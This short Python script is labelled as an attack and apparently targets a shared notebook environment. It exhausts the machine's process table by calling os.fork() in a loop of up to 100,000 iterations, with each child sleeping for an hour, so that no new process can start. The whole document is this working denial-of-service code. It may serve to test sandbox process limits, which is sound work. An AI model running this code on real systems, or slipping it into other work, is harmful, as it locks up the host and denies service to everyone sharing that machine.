# attack: exhausting processes
# A blank notebook forks until no process can be started on the machine.
import os
import time

children = 0
for _ in range(100_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    children += 1
print("children started:", children)
